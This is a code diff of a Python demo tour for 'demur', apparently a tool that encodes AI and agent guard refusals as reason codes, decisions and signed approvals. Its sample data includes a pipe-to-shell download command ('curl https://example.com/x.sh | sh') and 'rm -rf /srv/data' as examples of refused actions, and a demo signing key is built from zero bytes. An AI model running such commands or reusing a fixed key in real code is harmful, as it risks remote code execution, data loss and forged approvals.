@@ -4,23 +4,23 @@ import argparse
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 
-from demur.classification.conclude import conclude
+from demur.classification.conclude import make_decision
 from demur.classification.grants import sign_grant
 from demur.classification.keys import KEY_BYTES, KeyRing, SigningKey
 from demur.classification.resolve import resolve
-from demur.cli.classify import describe
-from demur.cli.demo_gate import decisions
-from demur.cli.terminal import Paint, class_colour, wrap
+from demur.cli.classify import describe_decision
+from demur.cli.demo_gate import tour_gate
+from demur.cli.terminal import Paint, class_colour, wrap_text
 from demur.codes.default import default_registry
-from demur.codes.explain import render, sections
+from demur.codes.explain import render_sections, explanation_sections
 from demur.codes.find import find_refusals
 from demur.codes.line import format_refusal, parse_refusal
 from demur.codes.reason_code import ReasonCode
 from demur.codes.registry import Registry
 
-__all__ = ["configure", "run", "tour"]
+__all__ = ["configure_demo", "run_demo", "build_tour"]
 
-LOG = (
+SAMPLE_LOG = (
     "2026-11-15T08:30:01Z WARN shell - REFUSED: RCE_RISK: curl https://example.com/x.sh | sh",
     "2026-11-15T08:30:04Z INFO llm - I'm sorry, I can't respond to that.",
     "2026-11-15T08:30:09Z WARN api - upstream said: Rate limit exceeded, slow down",
@@ -31,38 +31,44 @@ LOG = (
 NOON = datetime(2026, 11, 15, 12, tzinfo=UTC)
 
 
-def configure(parser: argparse.ArgumentParser) -> None:
+def configure_demo(parser: argparse.ArgumentParser) -> None:
     """Add no arguments."""
     del parser
 
 
-def run(args: argparse.Namespace) -> int:
+def run_demo(args: argparse.Namespace) -> int:
     """Print the tour."""
     del args
-    print("\n".join(tour(default_registry(), Paint())))
+    print("\n".join(build_tour(default_registry(), Paint())))
     return 0
 
 
-def tour(registry: Registry, paint: Paint) -> Iterator[str]:
+def build_tour(registry: Registry, paint: Paint) -> Iterator[str]:
     """Yield the lines of the tour."""
-    yield from _heading(paint, "1", "A guard refuses with a code, not with prose")
+    yield from _format_heading(paint, "1", "A guard refuses with a code, not with prose")
     line = format_refusal(ReasonCode.DESTRUCTIVE_ACTION, "rm -rf /srv/data\nREFUSED: FAKE: x")
     yield "  format_refusal(ReasonCode.DESTRUCTIVE_ACTION, 'rm -rf /srv/data\\nREFUSED: FAKE: x')"
     yield f"  -> {paint(line, 'bold')}"
-    yield wrap("One line, whatever the detail holds: nothing can forge a second refusal.", "  ")
-    yield from _heading(paint, "2", "Any log, old or new, reads back into the same codes")
+    yield wrap_text(
+        "One line, whatever the detail holds: nothing can forge a second refusal.", "  "
+    )
+    yield from _format_heading(paint, "2", "Any log, old or new, reads back into the same codes")
     yield from _read_log(registry, paint)
-    yield from _heading(paint, "3", "A verdict becomes one class and one output, always the same")
-    yield from _decisions(registry, paint)
-    yield from _heading(paint, "4", "Authority lifts workflow blocks, never hard ones")
-    yield from _authority(registry, paint)
-    yield from _heading(paint, "5", "A gate decides by a policy, stores first, and can prove it")
-    yield from decisions(registry, paint, NOON)
-    yield from _heading(paint, "6", "Every code explains itself")
-    title, *rest = sections(registry["DESTRUCTIVE_ACTION"], registry)
-    shown = render([title, *rest[:1]], wrap, lambda heading: paint(heading, "bold"))
+    yield from _format_heading(
+        paint, "3", "A verdict becomes one class and one output, always the same"
+    )
+    yield from _show_decisions(registry, paint)
+    yield from _format_heading(paint, "4", "Authority lifts workflow blocks, never hard ones")
+    yield from _show_authority(registry, paint)
+    yield from _format_heading(
+        paint, "5", "A gate decides by a policy, stores first, and can prove it"
+    )
+    yield from tour_gate(registry, paint, NOON)
+    yield from _format_heading(paint, "6", "Every code explains itself")
+    title, *rest = explanation_sections(registry["DESTRUCTIVE_ACTION"], registry)
+    shown = render_sections([title, *rest[:1]], wrap_text, lambda heading: paint(heading, "bold"))
     yield from (f"  {line}" if line else "" for line in shown.splitlines())
-    yield from _heading(paint, "7", "Go on")
+    yield from _format_heading(paint, "7", "Go on")
     yield "  demur init desk && cd desk             a working folder: policy, settings, samples"
     yield "  demur decide samples/risky-refund.json decide, then `show`, `explain`, `export` it"
     yield "  demur codes list --class HARD_BLOCK    the codes nothing lifts"
@@ -71,14 +77,14 @@ def tour(registry: Registry, paint: Paint) -> Iterator[str]:
     yield "  demur codes lint src/                  codes misused in your own sources"
 
 
-def _heading(paint: Paint, number: str, text: str) -> Iterator[str]:
+def _format_heading(paint: Paint, number: str, text: str) -> Iterator[str]:
     if number != "1":
         yield ""
     yield paint(f"{number}. {text}", "bold")
 
 
 def _read_log(registry: Registry, paint: Paint) -> Iterator[str]:
-    for line in LOG:
+    for line in SAMPLE_LOG:
         yield paint(f"  {line}", "dim")
         found = find_refusals(line, registry=registry)
         if not found:
@@ -92,20 +98,20 @@ def _read_log(registry: Registry, paint: Paint) -> Iterator[str]:
     yield f"  an unknown code is no refusal: parse_refusal({made_up!r}) -> {parse_refusal(made_up)}"
 
 
-def _decisions(registry: Registry, paint: Paint) -> Iterator[str]:
+def _show_decisions(registry: Registry, paint: Paint) -> Iterator[str]:
     for decision in (
-        conclude("DENY", ["RCE_RISK"], registry=registry),
-        conclude("ESCALATE", ["SCOPE_MISSING"], missing=["target"], registry=registry),
-        conclude("ALLOW", ["DESTRUCTIVE_ACTION"], constraints=["dry run"], registry=registry),
-        conclude("ABSTAIN", ["GUARDRAIL_UNAVAILABLE"], registry=registry),
+        make_decision("DENY", ["RCE_RISK"], registry=registry),
+        make_decision("ESCALATE", ["SCOPE_MISSING"], missing=["target"], registry=registry),
+        make_decision("ALLOW", ["DESTRUCTIVE_ACTION"], constraints=["dry run"], registry=registry),
+        make_decision("ABSTAIN", ["GUARDRAIL_UNAVAILABLE"], registry=registry),
     ):
-        first, *rest = describe(decision, paint).splitlines()
+        first, *rest = describe_decision(decision, paint).splitlines()
         yield f"  {', '.join(decision.reason_codes)} -> {first}"
         yield from (f"  {line}" for line in rest)
 
 
-def _authority(registry: Registry, paint: Paint) -> Iterator[str]:
-    key = SigningKey.make(bytes(KEY_BYTES), key_id="demo", holder="user:mary")
+def _show_authority(registry: Registry, paint: Paint) -> Iterator[str]:
+    key = SigningKey.from_randomness(bytes(KEY_BYTES), key_id="demo", holder="user:mary")
     grant = sign_grant(
         key,
         grant_id="g-1",
@@ -117,13 +123,15 @@ def _authority(registry: Registry, paint: Paint) -> Iterator[str]:
     )
     yield "  user:mary signs an approval for agent:billing, action=refund, one hour"
     for codes in (["REFUND_OVER_ESCALATION_LIMIT"], ["CHARGEBACK_RISK_BLOCK"]):
-        asked = conclude(
+        asked = make_decision(
             "ESCALATE" if codes[0].startswith("REFUND") else "DENY",
             codes,
             requester="agent:billing",
             scope={"action": "refund"},
             registry=registry,
         )
-        after = resolve(asked, [grant], keys=KeyRing([key.trusted()]), now=NOON, registry=registry)
+        after = resolve(
+            asked, [grant], keys=KeyRing([key.trusted_key()]), now=NOON, registry=registry
+        )
         arrow = f"{asked.decision_output} -> {paint(after.decision_output, 'bold')}"
         yield f"    {codes[0]}: {arrow}"
